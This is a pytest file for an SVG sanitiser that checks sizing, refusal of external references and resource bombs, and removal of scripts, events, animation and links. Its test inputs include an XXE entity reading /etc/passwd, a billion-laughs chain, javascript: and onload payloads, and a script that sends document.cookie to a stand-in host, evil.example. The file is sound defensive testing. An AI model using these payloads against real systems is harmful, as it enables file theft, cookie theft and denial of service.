"""SVG pictures: sized as drawing programs write them, and read safely. What needs anything
outside the picture is refused, what only runs or moves is removed with a warning, and nothing
of a hostile SVG is left in what the outputs get."""

from __future__ import annotations

import base64

import pytest
from lxml import etree

from pipeline.errors import Problem, ToolkitError
from pipeline.pictures import DEFAULT_LIMITS, Limits, read_picture
from pipeline.read.images import MISSING_FIX
from pipeline.read.logo import MISSING_FIX as LOGO_MISSING_FIX

from conftest import ROOT
from picture_samples import LINE, SOURCE, SVG_LOGO, huge_png, raster, svg, write

SVG_NS = "{http://www.w3.org/2000/svg}"
# Words no sanitised picture may hold, whatever the file held.
HOSTILE_WORDS = (
    "script",
    "alert",
    "onload",
    "onclick",
    "javascript",
    "http:",
    "https:",
    "file:",
    "/etc/passwd",
    "ENTITY",
    "DOCTYPE",
    "foreignObject",
    "animate",
    "<set",
    "@import",
    "evil",
)


def read(tmp_path, text: str, name: str = "picture.svg", limits=DEFAULT_LIMITS):
    path = write(tmp_path, name, text)
    return read_picture(path, f"images/{name}", SOURCE, LINE, limits, missing_fix=MISSING_FIX)


def problems(tmp_path, text: str, limits=DEFAULT_LIMITS) -> list[Problem]:
    with pytest.raises(ToolkitError) as caught:
        read(tmp_path, text, limits=limits)
    for problem in caught.value.problems:
        assert (problem.file, problem.line) == (SOURCE, LINE)
        assert problem.message.startswith("The image 'images/picture.svg' ")
        assert problem.fix
    return caught.value.problems


def refused(tmp_path, text: str, limits=DEFAULT_LIMITS) -> Problem:
    [problem] = problems(tmp_path, text, limits)
    return problem


def assert_nothing_hostile(data: bytes) -> None:
    text = data.decode("utf-8")
    for namespace in ("http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink"):
        text = text.replace(f'"{namespace}"', '""')
    for word in HOSTILE_WORDS:
        assert word not in text, word
    etree.fromstring(data)  # and it is still well-formed


# ---- good SVG --------------------------------------------------------------------------------


def test_a_logo_keeps_its_drawing_and_size(tmp_path):
    picture = read(tmp_path, SVG_LOGO)
    assert picture.format == "svg" and picture.mime_type == "image/svg+xml"
    assert picture.natural_size.width_cm == pytest.approx(4.0)
    assert picture.natural_size.height_cm == pytest.approx(2.0)
    root = etree.fromstring(picture.data)
    assert [e.tag.removeprefix(SVG_NS) for e in root] == ["rect", "circle"]
    assert root[0].get("fill") == "#6b2c91"
    assert picture.warnings == ()
    assert picture.for_pdf().data == picture.data == picture.for_web().data


@pytest.mark.parametrize(
    ("attributes", "width_px", "height_px"),
    [
        ('width="100" height="50"', 100, 50),
        ('width="2in" height="1in"', 192, 96),
        ('width="72pt" height="36pt"', 96, 48),
        ('width="10cm" height="5cm"', 10 / 2.54 * 96, 5 / 2.54 * 96),
        ('viewBox="0 0 300 100"', 300, 100),
        ('width="100%" height="100%" viewBox="0,0,300,150"', 300, 150),
        ('width="60mm" viewBox="0 0 300 100"', 60 / 25.4 * 96, 20 / 25.4 * 96),
        ('height="40" viewBox="0 0 300 100"', 120, 40),
    ],
)
def test_the_natural_size_is_read_as_browsers_read_it(tmp_path, attributes, width_px, height_px):
    picture = read(tmp_path, svg('<rect width="10" height="10"/>', attributes))
    assert picture.width_px == pytest.approx(width_px)
    assert picture.height_px == pytest.approx(height_px)


def test_a_viewbox_is_added_so_that_outputs_scale_the_drawing(tmp_path):
    picture = read(tmp_path, svg('<rect width="10" height="10"/>', 'width="40mm" height="20mm"'))
    assert etree.fromstring(picture.data).get("viewBox") == "0 0 151.181 75.5906"


def test_a_plain_doctype_line_is_dropped_and_drawing_programs_data_silently(tmp_path):
    inkscape = (
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
        "<!-- Created with Inkscape (http://www.inkscape.org/) -->\n"
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        '<svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
        'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'width="100" height="50" inkscape:version="1.2" sodipodi:docname="logo.svg">'
        '<sodipodi:namedview id="view" inkscape:zoom="2"/>'
        "<metadata><rdf:RDF/></metadata>"
        '<g inkscape:label="Layer 1" inkscape:groupmode="layer">'
        '<path d="M0 0 L10 10" stroke="#000"/></g></svg>'
    )
    picture = read(tmp_path, inkscape)
    assert picture.warnings == ()
    text = picture.data.decode()
    assert "inkscape" not in text and "sodipodi" not in text and "rdf" not in text
    assert "DOCTYPE" not in text and "Created with" not in text
    assert '<path d="M0 0 L10 10" stroke="#000"/>' in text


def test_internal_references_gradients_uses_and_embedded_pictures_stay(tmp_path):
    png = base64.b64encode(raster("png")).decode()
    body = (
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#005a70"/></linearGradient>'
        '<circle id="dot" r="4"/></defs>'
        '<style>.x { fill: url(#g) } @media print { .y { stroke: url("#g") } }</style>'
        '<rect class="x" width="50" height="20" style="stroke: url(#g)"/>'
        '<use href="#dot" x="60" y="10"/><use xlink:href="#dot" x="70" y="10"/>'
        f'<image width="40" height="20" href="data:image/png;base64,{png}"/>'
        f'<image width="40" height="20" '
        f'xlink:href="data:image/png;base64,\n{png[:20]}\n{png[20:]}"/>'
    )
    picture = read(tmp_path, svg(body))
    assert picture.warnings == ()
    root = etree.fromstring(picture.data)
    assert len(root.findall(f"{SVG_NS}use")) == 2 and len(root.findall(f"{SVG_NS}image")) == 2
    assert "url(#g)" in root.find(f"{SVG_NS}style").text


# ---- refused ---------------------------------------------------------------------------------


def test_xml_that_is_not_well_formed_names_the_line_of_the_picture(tmp_path):
    problem = refused(tmp_path, '<svg xmlns="http://www.w3.org/2000/svg">\n<rect>\n</svg>')
    assert "is not a well-formed SVG file" in problem.message
    assert "(line 3 of the picture)" in problem.message
    assert "Plain SVG" in problem.fix


def test_xml_or_html_that_is_not_svg(tmp_path):
    html = refused(tmp_path, '<html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>')
    assert "is a web page (HTML), which not every output can show" in html.message
    xml = refused(tmp_path, '<?xml version="1.0"?><catalogue><svg/></catalogue>')
    assert "is an XML document that is not a picture" in xml.message
    wrong = refused(tmp_path, '<svg:svg xmlns:svg="urn:not-svg"/>')
    assert 'has no xmlns="http://www.w3.org/2000/svg" on its <svg> element' in wrong.message


def test_an_svg_element_without_its_namespace(tmp_path):
    problem = refused(tmp_path, '<svg width="10" height="10"><rect/></svg>')
    assert 'has no xmlns="http://www.w3.org/2000/svg"' in problem.message
    assert "Add xmlns=" in problem.fix


def test_an_external_entity_is_refused_and_never_read(tmp_path):
    xxe = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + svg(
        "<text>&xxe;</text>"
    )
    problem = refused(tmp_path, xxe)
    assert "declares entities in a DOCTYPE, which could read other files" in problem.message


def test_any_declaration_in_a_doctype_is_refused(tmp_path):
    default_onload = '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>' + svg("")
    assert "declares entities in a DOCTYPE" in refused(tmp_path, default_onload).message


def test_a_billion_laughs_is_refused_without_being_expanded(tmp_path):
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    problem = refused(tmp_path, f"<!DOCTYPE svg [{entities}]>" + svg("<text>&lol9;</text>"))
    assert "declares entities in a DOCTYPE" in problem.message


def test_entities_from_an_external_dtd_are_refused_and_the_dtd_is_not_fetched(tmp_path):
    text = '<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">' + svg("<text>&stolen;</text>")
    problem = refused(tmp_path, text)
    assert "uses entities" in problem.message or "not a well-formed SVG" in problem.message


@pytest.mark.parametrize(
    ("body", "says"),
    [
        ('<image href="https://evil.example/track.png"/>', "an address on the internet"),
        ('<image xlink:href="http://evil.example/a.png"/>', "an address on the internet"),
        ('<image href="//evil.example/a.png"/>', "an address on the internet"),
        ('<image href="file:///etc/passwd"/>', "a file on this computer ('file:///etc/passwd')"),
        ('<image href="/etc/passwd"/>', "another file ('/etc/passwd')"),
        ('<image href="../../secret.png"/>', "another file ('../../secret.png')"),
        ('<image href="photo.png"/>', "another file ('photo.png')"),
        ('<use href="other.svg#crest"/>', "another file ('other.svg#crest') in its <use> element"),
        ('<use xlink:href="file:///etc/passwd#x"/>', "a file on this computer"),
        ('<filter id="f"><feImage href="http://evil.example/x.png"/></filter>', "<feImage>"),
        ('<rect fill="url(other.svg#g)" width="1" height="1"/>', "another file ('other.svg#g')"),
        ('<rect style="fill: url(http://evil.example/#g)"/>', "an address on the internet"),
        ('<rect style="fill: \\75 rl(http://evil.example/#g)"/>', "an address on the internet"),
        ("<rect filter=\"URL( 'https://evil.example/f' )\"/>", "an address on the internet"),
        # not a url() to CSS (a #url hash, then brackets), but other parsers may read one
        ('<rect fill="#url(http://evil.example/x)fff"/>', "an address on the internet"),
        ('<use href="data:image/svg+xml;base64,PHN2Zz4="/>', "data that is not a PNG, JPEG"),
        ('<use href="javascript:alert(1)"/>', "an address the toolkit does not follow"),
    ],
)
def test_every_reference_outside_the_picture_is_refused(tmp_path, body, says):
    problem = refused(tmp_path, svg(body))
    assert says in problem.message
    assert "the outputs hold only what is inside the picture, so it is refused" in problem.message
    assert "Embed Images" in problem.fix


@pytest.mark.parametrize(
    ("sheet", "says"),
    [
        ("@import url(http://evil.example/a.css);", "an address on the internet"),
        ('@import "local.css";', "another file ('local.css')"),
        (".a { fill: url(file:///etc/passwd) }", "a file on this computer"),
        ("@font-face { font-family: X; src: url(data:font/woff2;base64,AAAA) }", "data"),
        ("@media print { .a { background: image-set('x.png' 1x) } }", "another file ('x.png')"),
        ("/* */ .a { fill: \\75 rl(https://evil.example/) }", "an address on the internet"),
    ],
)
def test_a_style_sheet_that_loads_anything_is_refused(tmp_path, sheet, says):
    problem = refused(tmp_path, svg(f"<style>{sheet}</style>"))
    assert f"has a style sheet that loads {says}" in problem.message
    assert "@import or url(…)" in problem.fix


def test_html_in_a_foreign_object_is_refused(tmp_path):
    body = (
        '<switch><foreignObject width="50" height="20"><div xmlns="http://www.w3.org/1999/xhtml">'
        "Label</div></foreignObject><text>Label</text></switch>"
    )
    problem = refused(tmp_path, svg(body))
    assert "holds HTML in a <foreignObject> element" in problem.message
    assert "diagrams.net" in problem.fix


@pytest.mark.parametrize(
    ("body", "says"),
    [
        ('<filter id="f"><feMorphology radius="50"/></filter>', "uses an <feMorphology> filter"),
        (
            '<filter id="f"><feTurbulence baseFrequency="0.1" numOctaves="100000"/></filter>',
            "a noise filter of 100000 octaves",
        ),
        (
            '<filter id="f"><feConvolveMatrix order="50" kernelMatrix="1"/></filter>',
            "a convolution filter of order 50",
        ),
    ],
)
def test_filters_whose_work_the_file_can_make_endless_are_refused(tmp_path, body, says):
    problem = refused(tmp_path, svg(body))
    assert says in problem.message and "takes too long to draw" in problem.message


def test_a_use_bomb_is_refused_by_counting_not_drawing(tmp_path):
    body = '<defs><rect id="a0" width="1" height="1"/>'
    for level in range(1, 10):  # 10 ** 9 rectangles once drawn
        body += f'<g id="a{level}">' + f'<use href="#a{level - 1}"/>' * 10 + "</g>"
    problem = refused(tmp_path, svg(body + '</defs><use href="#a9"/>'))
    assert "draws more than 50,000 elements once its repeated parts" in problem.message


def test_a_marker_on_every_point_of_a_long_path_counts_once_per_point(tmp_path):
    points = " ".join(f"L{i} {i % 7}" for i in range(2000))
    group = "".join('<circle r="1"/>' for _ in range(50))
    body = f'<marker id="m">{group}</marker><path d="M0 0 {points}" marker-mid="url(#m)"/>'
    assert "draws more than" in refused(tmp_path, svg(body)).message
    in_sheet = f'<style>path {{ marker-mid: url(#m) }}</style><marker id="m">{group}</marker>'
    in_sheet += f'<path d="M0 0 {points}"/>'
    assert "draws more than" in refused(tmp_path, svg(in_sheet)).message
    fine = f'<marker id="m">{group}</marker><path d="M0 0 L5 5 L9 9" marker-mid="url(#m)"/>'
    assert read(tmp_path, svg(fine)).warnings == ()


def test_a_reference_cycle_is_refused(tmp_path):
    body = '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'
    assert "shows itself" in refused(tmp_path, svg(body)).message
    assert "shows itself" in refused(tmp_path, svg('<g id="s"><use href="#s"/></g>')).message
    mask = '<mask id="m"><rect mask="url(#m)" width="1" height="1"/></mask>'
    assert "shows itself" in refused(tmp_path, svg(mask)).message


def test_a_smaller_element_limit_can_be_set(tmp_path):
    body = "".join('<rect width="1" height="1"/>' for _ in range(30))
    limits = Limits(max_svg_elements=20)
    assert "draws more than 20 elements" in refused(tmp_path, svg(body), limits).message


@pytest.mark.parametrize(
    ("attributes", "says"),
    [
        ("", "has no size (no width, height or viewBox)"),
        ('width="100"', "has a width but no height and no viewBox"),
        ('width="0" height="10"', "has a width of 0, so it would not show"),
        ('width="-5" height="10"', "has a width of -5"),
        ('width="wide" height="10"', "has a width that is not a length ('wide')"),
        ('viewBox="0 0 100"', "has a viewBox that is not four numbers"),
        ('viewBox="0 0 0 100"', "has a viewBox with no area"),
        ('width="1e999" height="10"', "has a width of 1e999"),
    ],
)
def test_a_picture_with_no_size_it_can_be_shown_at(tmp_path, attributes, says):
    problem = refused(tmp_path, svg('<rect width="1" height="1"/>', attributes))
    assert says in problem.message
    assert "viewBox" in problem.fix


def test_embedded_pictures_are_checked_as_their_own_files_are(tmp_path):
    damaged = base64.b64encode(raster("png", size=(100, 100))[:200]).decode()
    problem = refused(tmp_path, svg(f'<image href="data:image/png;base64,{damaged}"/>'))
    assert "embeds a PNG picture that is damaged" in problem.message
    bomb = base64.b64encode(huge_png(20_000, 20_000)).decode()
    problem = refused(tmp_path, svg(f'<image href="data:image/png;base64,{bomb}"/>'))
    assert "embeds a PNG picture that is 20,000 × 20,000 pixels" in problem.message
    svg_inside = base64.b64encode(SVG_LOGO.encode()).decode()
    problem = refused(tmp_path, svg(f'<image href="data:image/svg+xml;base64,{svg_inside}"/>'))
    assert "embeds something that is not a PNG, JPEG, GIF or WebP picture" in problem.message


def test_embedded_pictures_count_together_against_the_pixel_limit(tmp_path):
    png = base64.b64encode(raster("png", size=(100, 100))).decode()
    body = f'<image href="data:image/png;base64,{png}"/>' * 3
    problem = refused(tmp_path, svg(body), Limits(max_pixels=25_000))
    assert "embeds pictures of more than 25,000 pixels in all" in problem.message


def test_every_reason_to_refuse_is_reported_at_once(tmp_path):
    body = '<image href="http://evil.example/a.png"/><foreignObject/><use href="b.svg#c"/>'
    said = [p.message for p in problems(tmp_path, svg(body))]
    assert len(said) == 3
    assert any("<foreignObject>" in m for m in said)
    assert sum("refers to" in m for m in said) == 2


# ---- removed, with a warning -----------------------------------------------------------------


def warnings_for(tmp_path, body: str) -> tuple[list[str], bytes]:
    picture = read(tmp_path, svg(body))
    for warning in picture.warnings:
        assert (warning.file, warning.line) == (SOURCE, LINE)
        assert warning.message.startswith("The image 'images/picture.svg' had ")
        assert warning.fix
    return [w.message for w in picture.warnings], picture.data


def test_scripts_are_removed_and_reported(tmp_path):
    said, data = warnings_for(
        tmp_path,
        '<script>alert(1)</script><script href="evil.js"/>'
        '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(2)</h:script>'
        '<rect width="5" height="5"/>',
    )
    assert said[0].endswith(
        "had <script> with a program in it, which was removed: pictures in the toolkit never "
        "run programs."
    )
    assert "had elements no picture format draws (<h:script>), which were removed." in said[1]
    assert_nothing_hostile(data)
    assert b"<rect" in data


def test_event_attributes_are_removed_and_reported(tmp_path):
    said, data = warnings_for(
        tmp_path, '<rect onclick="alert(1)" ONMOUSEOVER="alert(2)" width="5" height="5"/>'
    )
    assert "had event attributes (ONMOUSEOVER, onclick), which were removed" in said[0]
    assert_nothing_hostile(data.replace(b"ONMOUSEOVER", b""))
    assert b"onmouseover" not in data.lower()


def test_animation_is_removed_and_the_picture_shows_as_it_was_before_it_moved(tmp_path):
    body = (
        '<rect width="5" height="5"><animate attributeName="x" to="50" dur="1s"/>'
        '<set attributeName="fill" to="red"/></rect>'
        '<a href="#"><set attributeName="href" to="javascript:alert(1)"/></a>'
    )
    said, data = warnings_for(tmp_path, body)
    assert any("had animation (<animate>, <set>), which was removed" in m for m in said)
    assert_nothing_hostile(data)


def test_links_are_removed_and_their_contents_kept(tmp_path):
    body = '<a href="javascript:alert(1)" target="_top"><text x="1" y="9">Visit us</text></a>'
    said, data = warnings_for(tmp_path, body)
    assert said == [
        "The image 'images/picture.svg' had links (<a href>), which were removed: a picture "
        "cannot hold a link."
    ]
    root = etree.fromstring(data)
    assert root[0].tag == f"{SVG_NS}g" and root[0].get("target") is None
    assert root[0][0].text == "Visit us"
    assert_nothing_hostile(data)


def test_unknown_elements_are_removed_and_the_text_around_them_kept(tmp_path):
    body = '<text x="0" y="9">Riverside <blink>now</blink> Council<iframe src="x"/></text>'
    said, data = warnings_for(tmp_path, body)
    assert "had elements no picture format draws (<blink>, <iframe>)" in said[0]
    assert etree.fromstring(data)[0].text == "Riverside  Council"


def test_a_hostile_svg_with_everything_removable_keeps_nothing_of_it(tmp_path):
    body = (
        '<script type="text/javascript"><![CDATA[ fetch("http://evil.example/" + document.cookie)'
        " ]]></script>"
        '<rect width="10" height="10" onload="alert(1)" fill="#6b2c91" '
        'xml:base="http://evil.example/">'
        '<animate attributeName="fill" values="red;blue" dur="2s" onbegin="alert(2)"/></rect>'
        '<a xlink:href="javascript:alert(3)"><circle r="2" cx="5" cy="5"/></a>'
        '<handler type="application/ecmascript">alert(4)</handler>'
        "<?php echo 'evil'; ?><!-- evil comment -->"
    )
    said, data = warnings_for(tmp_path, body)
    assert len(said) == 4  # script, events, animation, links
    assert_nothing_hostile(data)
    root = etree.fromstring(data)
    assert [e.tag.removeprefix(SVG_NS) for e in root.iter()] == ["svg", "rect", "g", "circle"]


def test_the_riverside_example_logo_is_read_without_a_warning():
    logo = read_picture(
        ROOT / "content" / "examples" / "riverside-logo.svg",
        "examples/riverside-logo.svg",
        "content/examples/riverside-settings.yml",
        None,
        missing_fix=LOGO_MISSING_FIX,
    )
    assert logo.warnings == ()
    assert logo.natural_size.width_cm == pytest.approx(3.0) == logo.natural_size.height_cm
    assert etree.fromstring(logo.data).find(f"{SVG_NS}title").text == "Riverside District Council"
